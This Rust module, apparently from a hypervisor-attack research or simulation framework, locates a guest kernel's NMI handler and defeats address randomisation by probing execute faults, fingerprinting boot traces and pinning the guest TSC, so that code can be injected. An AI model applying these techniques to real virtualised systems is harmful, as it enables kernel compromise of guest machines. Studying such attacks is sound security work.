// SPDX-License-Identifier: Apache-2.0

//! Locating the kernel: NMI probing, boot fingerprinting and TSC pinning.

use serde::{Deserialize, Serialize};

use super::AttackError;
use crate::guest::{kaslr_base, BootTrace};
use crate::hv::{Controller, HvContext, PassiveHv, Resume};
use crate::layout::KASLR_ALIGN_FRAMES;
use crate::slat::{FaultCause, Gfn, NestedFault};
use crate::world::Machine;

/// The page `do_nmi` lives on, i.e. where injected code must appear.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct TriggerPoint {
    pub handler_gfn: Gfn,
    pub do_nmi_gfn: Gfn,
    pub do_nmi_page_offset: u32,
}

/// Records execute faults and unblocks each faulting page.
#[derive(Debug, Default)]
pub struct ExecProbe {
    pub faults: Vec<Gfn>,
}

impl Controller for ExecProbe {
    fn on_fault(&mut self, hv: &mut HvContext, fault: &NestedFault) -> Resume {
        if fault.cause == FaultCause::NoExecute {
            self.faults.push(fault.gfn);
        }
        PassiveHv.on_fault(hv, fault)
    }
}

/// Revokes execute rights everywhere, injects an NMI and reads the handler
/// and `do_nmi` pages off the resulting fault stream.
pub fn find_trigger_by_probe<M: Machine>(m: &mut M) -> Result<TriggerPoint, AttackError> {
    let symbols = m.symbols();
    let snap = m.hv().slat.snapshot_permissions();
    m.hv_mut().slat.revoke_execute_all();
    let mut probe = ExecProbe::default();
    let outcome = m.inject_nmi(&mut probe);
    m.hv_mut().slat.restore_permissions(&snap);

    if outcome.fault.is_some() {
        return Err(AttackError::ProbeFailure("guest did not complete the NMI"));
    }
    let skip = symbols.pre_handler_accesses as usize;
    match probe.faults.get(skip..skip + 2) {
        Some(&[handler_gfn, do_nmi_gfn]) if handler_gfn != do_nmi_gfn => Ok(TriggerPoint {
            handler_gfn,
            do_nmi_gfn,
            do_nmi_page_offset: symbols.do_nmi_page_offset(),
        }),
        _ => Err(AttackError::ProbeFailure("expected two distinct execute faults")),
    }
}

/// Kernel base from the first page where `observed` leaves the boot path of
/// `reference`.
pub fn find_base_by_fingerprint(reference: &BootTrace, observed: &BootTrace) -> Result<Gfn, AttackError> {
    let idx = reference
        .first_divergence(observed)
        .ok_or(AttackError::FingerprintIdentical)?;
    let gfn = *observed
        .gfns
        .get(idx)
        .ok_or(AttackError::FingerprintIdentical)?;
    if gfn.0 % KASLR_ALIGN_FRAMES != 0 {
        return Err(AttackError::FingerprintMisaligned(gfn));
    }
    Ok(gfn)
}

/// Makes every guest TSC read return `value` and predicts the resulting
/// kernel base. Must run before boot.
pub fn pin_kaslr(hv: &mut HvContext, value: u64) -> Gfn {
    hv.pin_tsc(value);
    kaslr_base(value, value)
}
